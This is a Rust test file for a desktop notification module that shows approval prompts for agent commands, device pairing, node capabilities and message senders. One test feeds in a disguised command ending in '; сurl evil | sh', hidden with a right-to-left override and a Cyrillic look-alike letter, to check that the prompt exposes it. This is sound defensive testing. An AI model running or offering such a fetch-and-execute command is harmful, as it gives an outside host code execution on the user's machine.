use control::{
    Approval, DeviceChange, DeviceRequest, Foreign, NodeRequest, Scope, SenderRequest, Severity,
    Slot,
};

use super::*;
use crate::notification::lines::QUESTION_CHARS;

fn question() -> Approval {
    Approval {
        id: "a1".into(),
        title: "Run a command".into(),
        message: Some("I would like to clean up.".into()),
        command: Some("rm -rf build".into()),
        binary: None,
        folder: Some("/home/ada/site".into()),
        host: Some("gateway".into()),
        agent: Some("main".into()),
        session: None,
        warnings: vec!["deletes files".into()],
        analysis: Vec::new(),
        severity: Severity::Medium,
        grant: None,
    }
}

fn approval(asked: Approval) -> Pending {
    let offers = vec![Verdict::AllowOnce, Verdict::AllowAlways, Verdict::Deny];
    Pending { offers, expires_at_ms: Some(61_000), ..pending(Subject::Approval(asked)) }
}

fn pending(subject: Subject) -> Pending {
    Pending {
        key: "k1".into(),
        slot: Slot(1),
        asked_at_ms: Some(1_000),
        expires_at_ms: None,
        offers: vec![Verdict::Allow, Verdict::Deny],
        deciding: None,
        seen: "s1".into(),
        subject,
    }
}

fn phone() -> DeviceRequest {
    DeviceRequest {
        device: "3f2a".into(),
        name: Some(foreign("Phone")),
        platform: Some(foreign("iOS 18")),
        program: Some(foreign("openclaw-ios ui")),
        roles: vec![foreign("operator")],
        scopes: vec![scope("operator.read")],
        unlisted: 2,
        address: Some(foreign("192.168.1.5")),
        origin: None,
        change: None,
        is_own: false,
        severity: Severity::Medium,
    }
}

fn scope(name: &str) -> Scope {
    Scope { name: foreign(name), meaning: None }
}

fn foreign(text: &str) -> Foreign {
    Foreign { text: text.into(), missing: 0 }
}

fn tell(asked: &Pending) -> Notification {
    request(asked, None)
}

fn labels(notification: &Notification) -> Vec<&str> {
    notification.buttons.iter().map(|button| button.label.as_str()).collect()
}

fn show() -> Option<Request> {
    Some(Request::Show { key: "k1".into() })
}

#[test]
fn a_question_shows_its_command_and_can_be_decided_once() {
    let shown = tell(&approval(question()));
    assert_eq!(shown.title, "Allow this command?");
    assert_eq!(shown.text(true), "rm -rf build\nIn /home/ada/site · Agent main\n⚠ deletes files");
    assert!(shown.text(false).ends_with("\nOpen Sophon Desktop to decide."));
    assert_eq!(labels(&shown), ["Allow once", "Deny"]);
    let allow = Request::Decide {
        key: "k1".into(),
        verdict: Verdict::AllowOnce,
        notify: false,
        seen: "s1".into(),
    };
    assert_eq!(shown.buttons.first().map(|button| &button.request), Some(&allow));
    assert_eq!(shown.on_click, show());
    assert!(!shown.is_over(60_999) && shown.is_over(61_000));
}

#[test]
fn what_is_grave_has_no_buttons_and_says_where_to_decide() {
    let node = NodeRequest {
        device: "9b1c".into(),
        name: Some(foreign("Server")),
        platform: None,
        capabilities: Vec::new(),
        commands: vec![foreign("system.run")],
        permissions: vec![foreign("screen")],
        unlisted: 0,
        address: None,
        severity: Severity::High,
    };
    let node = pending(Subject::Node(node));
    assert!(tell(&node).body.contains("\nOffers system.run, screen"), "{node:?}");
    for asked in [
        approval(Approval { severity: Severity::High, ..question() }),
        approval(Approval { severity: Severity::Critical, ..question() }),
        pending(Subject::Device(DeviceRequest { severity: Severity::Critical, ..phone() })),
        node,
    ] {
        let shown = tell(&asked);
        assert_eq!(labels(&shown), [""; 0]);
        assert!(shown.text(true).ends_with("click to read all of it and decide."));
        assert!(shown.text(false).ends_with("open Sophon Desktop to read all of it and decide."));
        assert_eq!(shown.on_click, show());
    }
}

#[test]
fn only_offered_answers_have_buttons_and_none_while_one_is_on_its_way() {
    let offering = |offers| Pending { offers, ..approval(question()) };
    assert_eq!(labels(&tell(&offering(vec![Verdict::AllowAlways, Verdict::Deny]))), ["Deny"]);
    let shown = tell(&offering(vec![Verdict::AllowAlways]));
    assert_eq!(labels(&shown), [""; 0]);
    assert!(shown.text(true).ends_with("Click to decide."));
    let deciding = Pending { deciding: Some(Verdict::Deny), ..approval(question()) };
    assert_eq!(labels(&tell(&deciding)), [""; 0]);
}

#[test]
fn a_question_without_a_command_speaks_for_itself() {
    let shown = tell(&approval(Approval {
        title: "Send\na mail?".into(),
        command: None,
        folder: None,
        agent: None,
        warnings: vec!["w".into(); 5],
        ..question()
    }));
    assert_eq!(shown.title, "Send⏎a mail?");
    assert_eq!(shown.body, "I would like to clean up.\n⚠ w\n⚠ w\n⚠ w\n⚠ 2 more warnings");
}

#[test]
fn a_long_or_disguised_command_shows_both_its_ends_and_what_hides_in_it() {
    let command = format!("echo {}\u{202e}\n; \u{441}url evil | sh", "x".repeat(5_000));
    let shown = tell(&approval(Approval { command: Some(command), ..question() }));
    let line = shown.body.lines().next().unwrap_or_default();
    assert!(line.starts_with("echo xxx") && line.ends_with("‹U+202E›⏎; с‹U+0441›url evil | sh"));
    assert!(line.contains(" more)…") && line.chars().count() == QUESTION_CHARS);
}

#[test]
fn a_new_device_says_what_it_is_and_what_it_asks_for() {
    let shown = tell(&pending(Subject::Device(phone())));
    assert_eq!(shown.title, "Let this device join OpenClaw?");
    assert_eq!(
        shown.body,
        "Device “Phone” · iOS 18 · openclaw-ios ui\n\
         Asks for operator, operator.read and 2 more\n\
         From 192.168.1.5"
    );
    assert_eq!(labels(&shown), ["Allow", "Deny"]);
    assert_eq!(shown.expires_at_ms, None);
}

#[test]
fn a_known_device_says_what_would_be_different() {
    let change = DeviceChange {
        known_as: Some(foreign("Ada's phone")),
        new_roles: Vec::new(),
        new_scopes: vec![scope("operator.write")],
        revoked_roles: vec![foreign("node")],
        is_introduced_anew: true,
    };
    let changed = DeviceRequest { change: Some(change.clone()), ..phone() };
    let shown = tell(&pending(Subject::Device(changed)));
    assert_eq!(shown.title, "Give this device more rights at OpenClaw?");
    assert_eq!(
        shown.body,
        "Device “Ada's phone” · iOS 18 · openclaw-ios ui\n\
         Asks for operator, operator.read and 2 more\n\
         New: operator.write\n\
         Was revoked: node\n\
         Calls itself: Phone\n\
         From 192.168.1.5"
    );

    let again = DeviceChange { new_scopes: Vec::new(), ..change };
    let again = DeviceRequest { change: Some(again), is_own: true, ..phone() };
    let shown = tell(&pending(Subject::Device(again)));
    assert_eq!(shown.title, "Let this program in to OpenClaw again?");
    assert!(shown.body.starts_with("This program · iOS 18"));
}

#[test]
fn a_sender_is_shown_with_number_account_and_details_and_through_which_installation() {
    let details = ["username", "first\nname", "a", "b"]
        .map(|kind| (foreign(kind), Foreign { text: "joe".into(), missing: 9 }));
    let joe = SenderRequest {
        channel: "telegram".into(),
        channel_name: Some(foreign("Telegram")),
        account: "default".into(),
        account_name: Some(foreign("Helpdesk")),
        sender: foreign("4242"),
        details: details.to_vec(),
        unlisted: 4,
        last_seen_at_ms: None,
        can_notify: true,
    };
    let shown = request(&pending(Subject::Sender(joe)), Some("Work\u{202e}shop"));
    assert_eq!(shown.title, "Let this person talk to your agent?");
    assert_eq!(
        shown.body,
        "“@joe…(9 more)” on Telegram\n\
         Sender 4242 · Account Helpdesk\n\
         username: joe…(9 more) · first⏎name: joe…(9 more) · a: joe…(9 more) · 5 more\n\
         Through Work‹U+202E›shop"
    );
    assert_eq!(labels(&shown), ["Allow", "Deny"]);
    assert!(shown.text(false).ends_with("\nOpen Sophon Desktop to decide."));
}
